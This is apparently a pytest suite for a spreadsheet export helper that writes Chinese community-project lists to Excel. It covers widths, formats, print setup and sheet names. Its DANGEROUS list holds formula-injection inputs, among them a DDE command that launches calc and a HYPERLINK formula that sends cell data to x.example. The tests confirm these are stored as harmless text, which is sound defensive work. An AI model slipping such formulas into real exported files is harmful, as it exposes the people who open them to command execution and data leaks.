"""Measured text and plain lists."""

import zipfile
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from fractions import Fraction
from io import BytesIO

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from apps.core.xlsx import (
    Face,
    ListValue,
    count_lines,
    new_workbook,
    put,
    sheet_title,
    text_width,
    workbook_bytes,
    write_table,
)

# What a person may have typed as a name or a reason, and the text that stands in the cell.
DANGEROUS = [
    ("=1+1", "=1+1"),
    ("+1", "+1"),
    ("-1", "-1"),
    ("@SUM(A1:A9)", "@SUM(A1:A9)"),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://x.example/"&A1,"点我")', '=HYPERLINK("http://x.example/"&A1,"点我")'),
    ("\t=1+1", "=1+1"),
    ("\r\n=1+1", "=1+1"),
    (" \x00 =1+1", "=1+1"),
    ("\u3000=1+1", "=1+1"),
    ("＝1+1", "＝1+1"),
    ("＋1", "＋1"),
    ("－1", "－1"),
    ("＠SUM(A1)", "＠SUM(A1)"),
]


def open_list(
    rows: Iterable[Sequence[ListValue]],
    columns: Sequence[str] = ("名称", "数量", "比例", "计入", "日期"),
) -> Worksheet:
    return load_workbook(BytesIO(write_table("社区库/名单", columns, rows))).worksheets[0]


def test_writes_values_by_their_kind() -> None:
    opened = date(2021, 3, 1)
    sheet = open_list([["东兴社区", 3, Fraction(3, 13), True, opened], ["=1+1", 0, None, False, None]])
    assert list(sheet.values) == [
        ("名称", "数量", "比例", "计入", "日期"),
        ("东兴社区", 3, 0.2308, "是", datetime(2021, 3, 1)),  # noqa: DTZ001
        ("=1+1", 0, None, "否", None),
    ]
    assert [cell.number_format for cell in sheet[2]] == ["@", "General", "0.00%", "@", "yyyy-mm-dd"]
    assert (sheet["A3"].data_type, bool(sheet["A3"].quotePrefix)) == ("s", True)


@pytest.mark.parametrize(("typed", "shown"), DANGEROUS)
def test_list_keeps_formulas_as_text(typed: str, shown: str) -> None:
    sheet = open_list([[typed]], [typed])
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (shown, "s", True)


@pytest.mark.parametrize(("typed", "shown"), DANGEROUS)
def test_form_keeps_formulas_as_text(typed: str, shown: str) -> None:
    workbook = new_workbook("表")
    put(workbook.worksheets[0], 1, 1, typed, Face("仿宋", 12))
    cell = load_workbook(BytesIO(workbook_bytes(workbook))).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (shown, "s", True)


def test_formula_written_past_the_helpers_leaves_as_text() -> None:
    workbook = new_workbook("表")
    sheet = workbook.worksheets[0]
    sheet["B2"] = "=1+1"
    sheet["B3"], sheet["B4"] = 3, "甲"
    again = load_workbook(BytesIO(workbook_bytes(workbook))).worksheets[0]
    assert [(cell.value, cell.data_type) for (cell,) in again["B2:B4"]] == [("=1+1", "s"), (3, "n"), ("甲", "s")]
    assert again["B2"].quotePrefix


@pytest.mark.parametrize("text", ["东兴社区", "1=1", "a-b", "(=1)", "'=1"])
def test_ordinary_text_gets_no_prefix(text: str) -> None:
    cell = open_list([[text]], ["名称"])["A2"]
    assert (cell.value, bool(cell.quotePrefix)) == (text, False)


def test_title_of_a_list_is_no_formula_and_no_code() -> None:
    sheet = load_workbook(BytesIO(write_table("=1+1&P", ["名称"], []))).worksheets[0]
    assert sheet.title == "=1+1&P"
    assert b'<oddHeader>&amp;C&amp;"' in _part(write_table("=1+1&P", ["名称"], []), "xl/worksheets/sheet1.xml")
    assert b"=1+1&amp;&amp;P" in _part(write_table("=1+1&P", ["名称"], []), "xl/worksheets/sheet1.xml")


def _part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return archive.read(name)


def test_writes_moments_in_china_time() -> None:
    sheet = open_list([[datetime(2022, 8, 15, 16, 30, tzinfo=UTC)]], ["提交时间"])
    assert sheet["A2"].value == datetime(2022, 8, 16, 0, 30)  # noqa: DTZ001
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm"


def test_sets_list_up_for_reading_and_print() -> None:
    sheet = open_list([["东兴社区", 3, Fraction(1), True, None]] * 3)
    assert sheet.title == "社区库 名单"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E4"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (None, 0)
    assert sheet.oddHeader is not None
    assert sheet.oddHeader.center.text == "社区库/名单"
    assert sheet["A1"].font.bold
    assert (sheet.sheet_format.defaultRowHeight, sheet.sheet_format.customHeight) == (22.5, True)


def test_fits_widths_and_wraps_long_text() -> None:
    sheet = open_list([["甲", "长" * 60]], ["编", "说明"])
    # A file keeps the five pixels beside the text as well, of seven to a digit.
    assert [round(sheet.column_dimensions[letter].width - 5 / 7, 1) for letter in "AB"] == [8, 44]
    assert sheet.row_dimensions[2].height == 55.5


def test_money_shows_two_decimals_by_its_header() -> None:
    columns = ["项目数", "财政资金计划（万元）", "面积（平方公里）"]
    sheet = open_list([[3, Decimal("1234567.5"), Decimal("0.5")], [None, Decimal(0), None]], columns)
    assert [cell.number_format for cell in sheet[2]] == ["General", "#,##0.00", "General"]
    assert (sheet["B1"].value, sheet["B2"].value, sheet["B3"].value) == ("财政资金计划\n（万元）", 1234567.5, 0)


def test_long_headers_wrap_over_narrow_values() -> None:
    sheet = open_list([["甲", 3, "长" * 20]], ["编号", "历年城市社区建设改造项目完成投资（万元）", "说明"])
    widths = [round(sheet.column_dimensions[letter].width - 5 / 7, 1) for letter in "ABC"]
    assert widths == [8.7, 16, 38.7]
    assert sheet["B1"].alignment.wrap_text
    assert sheet.row_dimensions[1].height == 72


def test_writes_header_alone_without_rows() -> None:
    sheet = open_list([])
    assert sheet.auto_filter.ref == "A1:E1"
    assert sheet.max_row == 1


def test_refuses_row_of_other_length() -> None:
    with pytest.raises(ValueError, match="row 3 has 1 values for 2 columns"):
        write_table("名单", ["甲", "乙"], [[1, 2], [1]])


def test_streams_rows_beyond_the_measured_ones() -> None:
    sheet = open_list(([str(number)] for number in range(1200)), ["编号"])
    assert sheet.max_row == 1201
    assert sheet["A1201"].value == "1199"


@pytest.mark.parametrize(
    ("text", "units", "lines"),
    [
        ("", 10, 1),
        ("东兴社区", 9, 1),
        ("东兴社区", 8.9, 2),
        ("东兴社、区", 7.5, 2),
        ("东兴社区、", 9, 2),
        ("2021年完成数量", 12, 2),
        ("一" * 100, 21, 10),
    ],
)
def test_counts_lines_of_wrapped_text(text: str, units: float, lines: int) -> None:
    assert count_lines(text, 12, units) == lines


def test_measures_chinese_as_wide_as_high() -> None:
    assert text_width("社区（甲）", 12) == 60
    assert text_width("2021", 10) == pytest.approx(24)


def test_names_sheet_without_forbidden_characters() -> None:
    assert sheet_title("a/b:c*[d]?\\") == "a b c  d"
    assert sheet_title("长" * 40) == "长" * 31
    assert sheet_title("///") == "Sheet1"
